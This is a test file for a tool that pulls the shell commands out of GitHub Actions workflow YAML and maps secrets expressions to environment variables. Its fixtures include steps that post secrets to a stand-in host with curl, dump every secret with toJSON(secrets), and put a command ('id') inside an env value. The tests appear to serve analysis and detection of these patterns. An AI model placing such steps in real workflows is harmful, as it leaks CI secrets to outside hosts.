import { expect, test } from "vitest";
import { readYaml } from "../../../src/read/manifest/read-yaml.ts";
import { place, tell } from "./tell.ts";

const workflow = (run: string, env = ""): string =>
  `on: push\njobs:\n  test:\n    steps:\n      - name: x\n${env}        run: ${run}\n`;
const shell = (text: string): readonly string[] => tell(readYaml, ".github/workflows/ci.yml", text, "yaml").in("shell");

test.each([
  ["one secret", workflow("curl -d ${{ secrets.TOKEN }} https://x.example"), ["curl -d ${TOKEN} https://x.example"]],
  ["all secrets", workflow("echo '${{ toJSON(secrets) }}'"), [`echo ''"$(env)"''`]],
  [
    "behind quotes that are closed, and in a comment",
    workflow(`|\n          # don't\n          echo 'a' "it's \${{ secrets.A }}" '\${{ secrets.B }}'`),
    [`# don't\necho 'a' "it's \${A}" ''"\${B}"''\n`],
  ],
  ["something else", workflow("echo ${{ github.sha }}"), ["echo ${WORKFLOW_EXPRESSION}"]],
  [
    "a variable that is filled with them",
    workflow("echo $ALL", "        env:\n          ALL: ${{ toJSON(secrets) }}\n          N: 1\n"),
    ['ALL="$(env)"\necho $ALL'],
  ],
  [
    "a value that would end the assignment",
    workflow("echo $A", "        env:\n          A: 'secrets\"; id; \"'\n"),
    ["echo $A"],
  ],
])("%s", (_name, text, expected) => {
  expect(shell(text)).toEqual(expected);
});

test("commands keep their place behind what is put before them", () => {
  const text = workflow("echo $ALL | curl -d @- https://x.example", "        env:\n          ALL: ${{ secrets.A }}\n");
  const [command] = tell(readYaml, ".github/workflows/ci.yml", text, "yaml").embedded;
  expect(command?.placeOf("curl")).toBe(place(text, "curl"));
});
